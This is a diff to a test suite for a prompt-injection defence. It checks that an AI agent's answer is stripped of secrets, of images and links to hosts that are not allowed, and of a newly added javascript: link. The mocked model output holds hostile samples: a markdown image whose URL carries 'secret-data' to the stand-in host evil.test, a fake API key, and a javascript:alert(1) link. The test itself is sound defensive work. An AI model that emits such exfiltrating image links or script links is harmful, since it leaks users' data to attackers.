@@ -263,10 +263,11 @@ describe('prompt-injection defence', () => {
   it('guards the answer: no secret, no image or link to a host not allowed', async () => {
     mock.setScript([
       {
-        text: 'Here ![chart](https://evil.test/p.png?d=secret-data) and [docs](https://docs.example.com/a) and [x](https://evil.test/y) key sk-abcdefghijklmnopqrstuvwx1234',
+        text: 'Here ![chart](https://evil.test/p.png?d=secret-data) and [docs](https://docs.example.com/a) and [x](https://evil.test/y) key sk-abcdefghijklmnopqrstuvwx1234 [click](javascript:alert(1)) end',
       },
     ]);
     const result = await runOnce(member, { agentId, input: 'Show me.' });
+    expect(result.answer).toContain('click [link removed] end');
     expect(result.answer).toContain('[image removed: chart]');
     expect(result.answer).toContain('[docs](https://docs.example.com/a)');
     expect(result.answer).toContain('x [link removed]');
